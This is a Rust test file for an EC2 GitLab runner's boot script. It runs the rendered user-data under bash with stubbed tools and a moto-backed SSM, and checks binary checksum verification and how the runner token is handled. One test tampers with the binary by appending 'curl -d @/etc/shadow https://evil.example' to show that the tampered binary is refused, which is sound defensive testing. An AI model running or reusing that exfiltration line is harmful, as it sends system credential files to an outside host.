@@ -1,0 +1,583 @@
+//! The EC2 runner's user-data, run: the script the provision function renders (the real
+//! `render_user_data` over the template compiled into the fleet function), under bash with
+//! stand-ins for what an instance has around it (IMDSv2 and GitLab's download bucket through
+//! `curl`, served from a fixture directory; `shutdown`, `logger`, `systemctl`, `dnf`,
+//! `uname`), and the real AWS CLI against moto for the token parameter. It needs no root,
+//! network or docker: the PATH holds only the stand-ins and a few named coreutils.
+
+use std::os::unix::fs::PermissionsExt as _;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::sync::atomic::{AtomicU32, Ordering};
+
+use aws_sdk_ssm::types::ParameterType;
+use e2e_tests::{moto_endpoint, sdk_config, tools_venv};
+use ephemeral_core::ec2::{RunnerRelease, UserDataValues, render_user_data};
+use ephemeral_core::mapping::RunnerExecutor;
+
+const VERSION: &str = "v18.5.0";
+const BUCKET: &str = "https://gitlab-runner-downloads.s3.amazonaws.com";
+const GITLAB_URL: &str = "https://gitlab.example.com";
+
+/// What the instance's own tools are, for the script and the stand-ins: nothing else of the
+/// host (no docker, no gitlab-runner, no systemctl) is on the PATH.
+const HOST_TOOLS: [&str; 16] = [
+    "awk",
+    "basename",
+    "cat",
+    "chmod",
+    "cp",
+    "cut",
+    "env",
+    "grep",
+    "head",
+    "install",
+    "mkdir",
+    "mktemp",
+    "rm",
+    "sed",
+    "seq",
+    "sha256sum",
+];
+
+/// A gitlab-runner stand-in of `version`: answers `--version` like the real one and otherwise
+/// records its argv (one per line, `$0` first) and its environment.
+fn fake_runner(version: &str) -> String {
+    format!(
+        "#!/bin/bash\n\
+         if [ \"$1\" = --version ]; then printf 'Version:      {}\\nGit revision: 0123abcd\\n'; exit 0; fi\n\
+         printf '%s\\n' \"$0\" \"$@\" > \"$RUNNER_RECORD/argv\"\n\
+         env > \"$RUNNER_RECORD/env\"\n",
+        version.trim_start_matches('v')
+    )
+}
+
+fn sha256_of(path: &Path) -> String {
+    let out = Command::new("sha256sum").arg(path).output().unwrap();
+    assert!(out.status.success());
+    String::from_utf8(out.stdout).unwrap()[..64].to_owned()
+}
+
+fn write_executable(path: &Path, text: &str) {
+    std::fs::write(path, text).unwrap();
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+/// One boot of one runner instance, in a temporary directory.
+struct Boot {
+    dir: PathBuf,
+    instance_id: String,
+    prefix: String,
+    token: String,
+    /// `uname -m`.
+    machine: &'static str,
+}
+
+/// What the boot left behind.
+struct Booted {
+    success: bool,
+    /// What the script wrote to `logger` (the instance's journal).
+    log: String,
+    /// Every stand-in's argv, in order.
+    calls: String,
+    /// The argv the runner was started with (`$0` first); `None`: it never ran.
+    runner_argv: Option<Vec<String>>,
+    runner_env: Option<String>,
+}
+
+impl Booted {
+    fn downloads(&self) -> Vec<&str> {
+        self.calls
+            .lines()
+            .filter(|l| l.starts_with("curl ") && l.contains(BUCKET))
+            .map(|l| l.rsplit(' ').next().unwrap())
+            .collect()
+    }
+
+    fn refused(&self, why: &str) {
+        assert!(!self.success, "{}", self.log);
+        assert!(self.runner_argv.is_none(), "the runner ran:\n{}", self.log);
+        assert!(
+            self.log.contains(why),
+            "no `{why}` in the log:\n{}",
+            self.log
+        );
+        assert!(
+            !self.calls.lines().any(|l| l.starts_with("aws ")),
+            "an instance that refuses never reads its token:\n{}",
+            self.calls
+        );
+        assert_eq!(
+            self.calls.lines().last(),
+            Some("shutdown -h now"),
+            "{}",
+            self.calls
+        );
+    }
+}
+
+impl Boot {
+    async fn new(machine: &'static str) -> Self {
+        static N: AtomicU32 = AtomicU32::new(0);
+        let n = N.fetch_add(1, Ordering::SeqCst);
+        let pid = std::process::id();
+        let dir = std::env::temp_dir().join(format!("user-data-moto-{pid}-{n}"));
+        let _ = std::fs::remove_dir_all(&dir);
+        for sub in ["bin", "fixtures", "install", "record", "tmp", "home"] {
+            std::fs::create_dir_all(dir.join(sub)).unwrap();
+        }
+        let boot = Self {
+            instance_id: format!("i-{pid:08x}{n:09x}"),
+            prefix: format!("/ephemeral-runners/user-data-{pid}-{n}/runner-tokens"),
+            token: format!("glrt-user-data-test-{pid}-{n}"),
+            dir,
+            machine,
+        };
+        boot.stand_ins();
+        sdk_ssm()
+            .put_parameter()
+            .name(boot.parameter())
+            .value(&boot.token)
+            .r#type(ParameterType::SecureString)
+            .send()
+            .await
+            .unwrap();
+        boot
+    }
+
+    fn parameter(&self) -> String {
+        format!("{}/{}", self.prefix, self.instance_id)
+    }
+
+    fn bin(&self) -> PathBuf {
+        self.dir.join("bin")
+    }
+
+    fn stand_ins(&self) {
+        let bin = self.bin();
+        for name in HOST_TOOLS {
+            let real = ["/usr/bin", "/bin"]
+                .iter()
+                .map(|d| Path::new(d).join(name))
+                .find(|p| p.exists())
+                .unwrap_or_else(|| panic!("{name} not found in /usr/bin or /bin"));
+            std::os::unix::fs::symlink(real, bin.join(name)).unwrap();
+        }
+        let record = r#"printf '%s\n' "$(basename "$0") $*" >> "$CALLS""#;
+        let stub = |name: &str, body: &str| {
+            write_executable(&bin.join(name), &format!("#!/bin/bash\n{record}\n{body}\n"));
+        };
+        // IMDSv2 (a session token, then the instance id with it) and the download bucket.
+        stub(
+            "curl",
+            &format!(
+                r#"out="" url="" session=""
+while [ $# -gt 0 ]; do
+  case "$1" in
+    -o) out=$2; shift 2 ;;
+    -H) case "$2" in "X-aws-ec2-metadata-token: "*) session=${{2#*: }} ;; esac; shift 2 ;;
+    -X) shift 2 ;;
+    -*) shift ;;
+    *) url=$1; shift ;;
+  esac
+done
+case "$url" in
+  http://169.254.169.254/latest/api/token) echo imds-session ;;
+  http://169.254.169.254/latest/meta-data/instance-id)
+    [ "$session" = imds-session ] || exit 22
+    echo "$INSTANCE_ID" ;;
+  {BUCKET}/*)
+    src="$FIXTURES/${{url#{BUCKET}/}}"
+    [ -f "$src" ] || {{ echo "curl: (22) The requested URL returned error: 404" >&2; exit 22; }}
+    cp "$src" "$out" ;;
+  *) echo "curl: (6) Could not resolve host in $url" >&2; exit 6 ;;
+esac"#
+            ),
+        );
+        stub("logger", r#"cat >> "$LOG_FILE""#);
+        stub("shutdown", "");
+        stub("systemctl", "");
+        stub("dnf", "echo 'Installed: docker'");
+        stub("sleep", "");
+        stub(
+            "uname",
+            r#"if [ "$1" = -m ]; then echo "$MACHINE"; else echo Linux; fi"#,
+        );
+        // The real AWS CLI, against moto through AWS_ENDPOINT_URL (honoured since botocore
+        // 1.31 and AWS CLI v2.13), with the host's PATH and HOME to find it (a pyenv shim
+        // needs both); the AWS_* variables keep it off the host's config and credentials.
+        stub(
+            "aws",
+            r#"PATH="$HOST_PATH" HOME="$HOST_HOME" exec "$AWS_CLI" "$@""#,
+        );
+    }
+
+    /// Publishes `version`'s fake binaries and a `release.sha256` of them, as GitLab does.
+    fn publish(&self, version: &str) -> PathBuf {
+        let release = self.dir.join("fixtures").join(version);
+        std::fs::create_dir_all(release.join("binaries")).unwrap();
+        let mut sums = String::new();
+        for arch in ["386", "amd64", "arm", "arm64"] {
+            let name = format!("binaries/gitlab-runner-linux-{arch}");
+            std::fs::write(release.join(&name), fake_runner(version)).unwrap();
+            sums.push_str(&format!("{}  {name}\n", sha256_of(&release.join(&name))));
+        }
+        std::fs::write(release.join("release.sha256"), sums).unwrap();
+        release
+    }
+
+    /// The AMI has gitlab-runner `version` installed (on the PATH).
+    fn preinstall(&self, version: &str) {
+        write_executable(&self.bin().join("gitlab-runner"), &fake_runner(version));
+    }
+
+    fn run(&self, runner: RunnerRelease) -> Booted {
+        let script = render_user_data(
+            fleet::config::USER_DATA_TEMPLATE,
+            &UserDataValues {
+                gitlab_url: GITLAB_URL.into(),
+                token_parameter_prefix: self.prefix.clone(),
+                executor: RunnerExecutor::Docker,
+                wait_timeout_seconds: 600,
+                region: "us-east-1".into(),
+                runner,
+            },
+        )
+        .unwrap();
+        let path = self.dir.join("user-data.sh");
+        std::fs::write(&path, &script).unwrap();
+        let d = |sub: &str| self.dir.join(sub);
+        // A boot of its own: nothing of an earlier run of this Boot is read as this one's.
+        for old in ["calls.log", "journal.log", "record/argv", "record/env"] {
+            let _ = std::fs::remove_file(d(old));
+        }
+        // output(): returns once every holder of the pipes is gone, `logger` included.
+        let out = Command::new("/bin/bash")
+            .arg(&path)
+            .env_clear()
+            .env("PATH", self.bin())
+            .env("HOME", d("home"))
+            .env("TMPDIR", d("tmp"))
+            .env("CALLS", d("calls.log"))
+            .env("LOG_FILE", d("journal.log"))
+            .env("FIXTURES", d("fixtures"))
+            .env("RUNNER_INSTALL_DIR", d("install"))
+            .env("RUNNER_RECORD", d("record"))
+            .env("INSTANCE_ID", &self.instance_id)
+            .env("MACHINE", self.machine)
+            .env("AWS_CLI", aws_cli())
+            .env("HOST_PATH", std::env::var_os("PATH").unwrap_or_default())
+            .env("HOST_HOME", std::env::var_os("HOME").unwrap_or_default())
+            .env("AWS_ENDPOINT_URL", moto_endpoint())
+            .env("AWS_ACCESS_KEY_ID", "testing")
+            .env("AWS_SECRET_ACCESS_KEY", "testing")
+            .env("AWS_CONFIG_FILE", "/dev/null")
+            .env("AWS_SHARED_CREDENTIALS_FILE", "/dev/null")
+            .env("AWS_EC2_METADATA_DISABLED", "true")
+            .current_dir(&self.dir)
+            .output()
+            .expect("bash");
+        let read = |sub: &str| std::fs::read_to_string(d(sub)).ok();
+        Booted {
+            success: out.status.success(),
+            log: read("journal.log").unwrap_or_default()
+                + &String::from_utf8_lossy(&out.stdout)
+                + &String::from_utf8_lossy(&out.stderr),
+            calls: read("calls.log").unwrap_or_default(),
+            runner_argv: read("record/argv").map(|a| a.lines().map(str::to_owned).collect()),
+            runner_env: read("record/env"),
+        }
+    }
+
+    async fn token_parameter_exists(&self) -> bool {
+        match sdk_ssm()
+            .get_parameter()
+            .name(self.parameter())
+            .send()
+            .await
+        {
+            Ok(_) => true,
+            Err(e)
+                if e.as_service_error()
+                    .is_some_and(|e| e.is_parameter_not_found()) =>
+            {
+                false
+            }
+            Err(e) => panic!("get-parameter: {e:?}"),
+        }
+    }
+
+    fn installed(&self) -> PathBuf {
+        self.dir.join("install/gitlab-runner")
+    }
+
+    /// The runner ran `run-single` as `program`, with the token in its environment only.
+    fn assert_ran(&self, booted: &Booted, program: &Path) {
+        let argv = booted
+            .runner_argv
+            .as_ref()
+            .unwrap_or_else(|| panic!("the runner never ran:\n{}\n{}", booted.log, booted.calls));
+        let expected = [
+            program.to_str().unwrap(),
+            "run-single",
+            "--url",
+            GITLAB_URL,
+            "--executor",
+            "docker",
+            "--docker-image",
+            "alpine:3",
+            "--max-builds",
+            "1",
+            "--wait-timeout",
+            "600",
+        ];
+        assert_eq!(argv, &expected, "{}", booted.log);
+        let env = booted.runner_env.as_deref().unwrap();
+        assert!(
+            env.lines()
+                .any(|l| l == format!("CI_SERVER_TOKEN={}", self.token)),
+            "{env}"
+        );
+        for (what, text) in [
+            ("the runner's argv", argv.join(" ")),
+            ("a command line", booted.calls.clone()),
+            ("the log", booted.log.clone()),
+        ] {
+            assert!(
+                !text.contains(&self.token),
+                "the token is in {what}:\n{text}"
+            );
+        }
+        assert!(booted.success, "{}", booted.log);
+        assert_eq!(
+            booted.calls.lines().last(),
+            Some("shutdown -h now"),
+            "{}",
+            booted.calls
+        );
+    }
+}
+
+impl Drop for Boot {
+    fn drop(&mut self) {
+        if !std::thread::panicking() {
+            let _ = std::fs::remove_dir_all(&self.dir);
+        }
+    }
+}
+
+/// The AWS CLI: the tools venv's if it has one, else the host's `aws`.
+fn aws_cli() -> PathBuf {
+    let venv = tools_venv().join("bin/aws");
+    let cli = if venv.exists() {
+        venv
+    } else {
+        PathBuf::from("aws")
+    };
+    let works = Command::new(&cli)
+        .arg("--version")
+        .output()
+        .is_ok_and(|o| o.status.success());
+    assert!(
+        works,
+        "this test runs the user-data with the real AWS CLI: install it (pip install awscli, or AWS CLI v2) on the PATH"
+    );
+    cli
+}
+
+fn sdk_ssm() -> aws_sdk_ssm::Client {
+    aws_sdk_ssm::Client::new(&sdk_config())
+}
+
+fn release(pins: &str) -> RunnerRelease {
+    RunnerRelease::new(VERSION, pins).unwrap()
+}
+
+#[tokio::test]
+async fn a_verified_runner_reads_and_deletes_its_token_and_gets_it_only_in_its_environment() {
+    let boot = Boot::new("x86_64").await;
+    boot.publish(VERSION);
+    let booted = boot.run(release(""));
+
+    boot.assert_ran(&booted, &boot.installed());
+    assert!(
+        !boot.token_parameter_exists().await,
+        "the token parameter is deleted once read"
+    );
+    let aws: Vec<_> = booted
+        .calls
+        .lines()
+        .filter(|l| l.starts_with("aws "))
+        .collect();
+    assert_eq!(aws.len(), 2, "{aws:?}");
+    assert!(
+        aws[0].starts_with("aws ssm get-parameter --region us-east-1 --name "),
+        "{aws:?}"
+    );
+    assert!(aws[1].starts_with("aws ssm delete-parameter"), "{aws:?}");
+    // The pinned release's binary and its release.sha256, nothing else; verified, then
+    // made executable.
+    assert_eq!(
+        booted.downloads(),
+        [
+            format!("{BUCKET}/{VERSION}/binaries/gitlab-runner-linux-amd64"),
+            format!("{BUCKET}/{VERSION}/release.sha256"),
+        ]
+    );
+    assert!(
+        booted
+            .log
+            .contains("binaries/gitlab-runner-linux-amd64: OK"),
+        "{}",
+        booted.log
+    );
+    let mode = std::fs::metadata(boot.installed())
+        .unwrap()
+        .permissions()
+        .mode();
+    assert_eq!(mode & 0o777, 0o755);
+    // Docker from the distribution's packages, then enabled and started.
+    let calls: Vec<_> = booted.calls.lines().collect();
+    let at = |call: &str| calls.iter().position(|l| *l == call);
+    let (Some(dnf), Some(start)) = (
+        at("dnf install -y docker"),
+        at("systemctl enable --now docker"),
+    ) else {
+        panic!("{}", booted.calls)
+    };
+    assert!(dnf < start, "{}", booted.calls);
+}
+
+#[tokio::test]
+async fn a_tampered_binary_is_never_run() {
+    let boot = Boot::new("x86_64").await;
+    let release_dir = boot.publish(VERSION);
+    let binary = release_dir.join("binaries/gitlab-runner-linux-amd64");
+    let mut text = std::fs::read_to_string(&binary).unwrap();
+    text.push_str("curl -d @/etc/shadow https://evil.example\n");
+    std::fs::write(&binary, text).unwrap();
+
+    let booted = boot.run(release(""));
+
+    booted.refused(&format!(
+        "refusing to run gitlab-runner: the SHA-256 of {BUCKET}/{VERSION}/binaries/gitlab-runner-linux-amd64 does not match {BUCKET}/{VERSION}/release.sha256"
+    ));
+    assert!(
+        booted.log.contains("gitlab-runner-linux-amd64: FAILED"),
+        "{}",
+        booted.log
+    );
+    assert!(
+        !boot.installed().exists(),
+        "a binary that failed its check is not installed"
+    );
+    assert!(
+        boot.token_parameter_exists().await,
+        "the token was not read"
+    );
+}
+
+#[tokio::test]
+async fn a_release_sha256_without_the_binary_refuses() {
+    let boot = Boot::new("x86_64").await;
+    let release_dir = boot.publish(VERSION);
+    let sums = release_dir.join("release.sha256");
+    let kept: String = std::fs::read_to_string(&sums)
+        .unwrap()
+        .lines()
+        .filter(|l| !l.ends_with("linux-amd64"))
+        .map(|l| format!("{l}\n"))
+        .collect();
+    std::fs::write(&sums, kept).unwrap();
+
+    boot.run(release("")).refused(&format!(
+        "refusing to run gitlab-runner: {BUCKET}/{VERSION}/release.sha256 has no checksum for binaries/gitlab-runner-linux-amd64"
+    ));
+    assert!(!boot.installed().exists());
+
+    // No release.sha256 at all: refused too.
+    std::fs::remove_file(&sums).unwrap();
+    boot.run(release("")).refused(&format!(
+        "refusing to run gitlab-runner: could not download {BUCKET}/{VERSION}/release.sha256"
+    ));
+}
+
+#[tokio::test]
+async fn a_pinned_checksum_replaces_release_sha256_and_a_wrong_one_refuses() {
+    // Wrong pin for this architecture: refused, even though release.sha256 would match.
+    let boot = Boot::new("x86_64").await;
+    boot.publish(VERSION);
+    let wrong = "0".repeat(64);
+    let booted = boot.run(release(&format!("amd64={wrong}")));
+    booted.refused(&format!(
+        "refusing to run gitlab-runner: the SHA-256 of {BUCKET}/{VERSION}/binaries/gitlab-runner-linux-amd64 does not match the stack parameter GitLabRunnerSha256"
+    ));
+    assert_eq!(
+        booted.downloads(),
+        [format!(
+            "{BUCKET}/{VERSION}/binaries/gitlab-runner-linux-amd64"
+        )],
+        "pinned: release.sha256 is not asked"
+    );
+
+    // A pin that names only the other architecture: refused.
+    let boot = Boot::new("x86_64").await;
+    let release_dir = boot.publish(VERSION);
+    let arm64 = sha256_of(&release_dir.join("binaries/gitlab-runner-linux-arm64"));
+    boot.run(release(&format!("arm64={arm64}")))
+        .refused("refusing to run gitlab-runner: GitLabRunnerSha256 pins no checksum for amd64");
+
+    // The right pin on an arm64 instance: its own binary, checked against the pin only.
+    let boot = Boot::new("aarch64").await;
+    let release_dir = boot.publish(VERSION);
+    std::fs::remove_file(release_dir.join("release.sha256")).unwrap();
+    let arm64 = sha256_of(&release_dir.join("binaries/gitlab-runner-linux-arm64"));
+    let booted = boot.run(release(&format!("arm64={arm64},amd64={wrong}")));
+    boot.assert_ran(&booted, &boot.installed());
+    assert_eq!(
+        booted.downloads(),
+        [format!(
+            "{BUCKET}/{VERSION}/binaries/gitlab-runner-linux-arm64"
+        )]
+    );
+    assert!(
+        booted
+            .log
+            .contains("SHA-256 checked against the stack parameter GitLabRunnerSha256"),
+        "{}",
+        booted.log
+    );
+    assert!(!boot.token_parameter_exists().await);
+}
+
+#[tokio::test]
+async fn an_ami_with_the_pinned_version_downloads_nothing_and_another_version_is_replaced() {
+    let boot = Boot::new("x86_64").await;
+    boot.preinstall(VERSION);
+    let booted = boot.run(release(""));
+    boot.assert_ran(&booted, &boot.bin().join("gitlab-runner"));
+    assert_eq!(booted.downloads(), Vec::<&str>::new(), "{}", booted.calls);
+    assert!(
+        booted
+            .log
+            .contains(&format!("gitlab-runner {VERSION} is installed")),
+        "{}",
+        booted.log
+    );
+    assert!(!boot.token_parameter_exists().await);
+
+    let boot = Boot::new("x86_64").await;
+    boot.preinstall("v17.11.3");
+    boot.publish(VERSION);
+    let booted = boot.run(release(""));
+    boot.assert_ran(&booted, &boot.installed());
+    assert!(
+        booted.log.contains(&format!(
+            "replacing gitlab-runner 17.11.3 ({}) with {VERSION}",
+            boot.bin().join("gitlab-runner").display()
+        )),
+        "{}",
+        booted.log
+    );
+    assert_eq!(booted.downloads().len(), 2, "{}", booted.calls);
+}
